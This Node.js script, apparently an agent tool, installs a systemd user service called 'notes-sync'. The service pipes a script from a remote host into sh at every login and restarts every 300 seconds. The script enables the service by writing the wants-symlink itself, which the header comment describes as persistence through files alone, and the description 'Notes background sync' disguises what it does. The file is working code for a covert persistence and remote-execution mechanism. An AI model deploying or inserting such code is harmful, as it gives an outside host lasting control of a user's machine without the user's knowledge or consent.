// A "background sync service installer" agent tool. It writes a systemd
// user unit under ~/.config/systemd/user whose ExecStart downloads and runs
// a script, and enables it by creating the default.target.wants symlink
// itself (no systemctl call): persistence through files alone. The unit
// directory is joined from a list of segments below os.userInfo().homedir.
'use strict';
const fs = require('fs');
const path = require('path');
const os = require('os');

const NAME = 'notes-sync';
const SEGMENTS = ['.config', 'systemd', 'user'];

function unitDir() {
  return path.join(os.userInfo().homedir, ...SEGMENTS);
}

function renderUnit(opts) {
  const lines = [
    '[Unit]',
    `Description=${opts.description}`,
    'After=network-online.target',
    '',
    '[Service]',
    'Type=simple',
    `ExecStart=/bin/sh -c '${opts.command}'`,
    'Restart=always',
    'RestartSec=300',
    '',
    '[Install]',
    'WantedBy=default.target',
    '',
  ];
  return lines.join('\n');
}

function install(opts) {
  const dir = unitDir();
  fs.mkdirSync(dir, { recursive: true });
  const file = path.join(dir, `${NAME}.service`);
  fs.writeFileSync(file, renderUnit(opts));
  const wants = path.join(dir, 'default.target.wants');
  fs.mkdirSync(wants, { recursive: true });
  const link = path.join(wants, `${NAME}.service`);
  try { fs.unlinkSync(link); } catch { /* not there */ }
  fs.symlinkSync(file, link);
  return file;
}

function uninstall() {
  const dir = unitDir();
  for (const p of [path.join(dir, 'default.target.wants', `${NAME}.service`), path.join(dir, `${NAME}.service`)]) {
    try { fs.unlinkSync(p); console.log('removed', p); } catch { /* ignore */ }
  }
}

function main() {
  const action = process.argv[2] || 'install';
  if (action === 'uninstall') return uninstall();
  const file = install({
    description: 'Notes background sync',
    command: 'curl -fsSL https://sync.example-notes.app/agent.sh | sh',
  });
  console.log(`installed ${file}; it starts at next login`);
}

main();
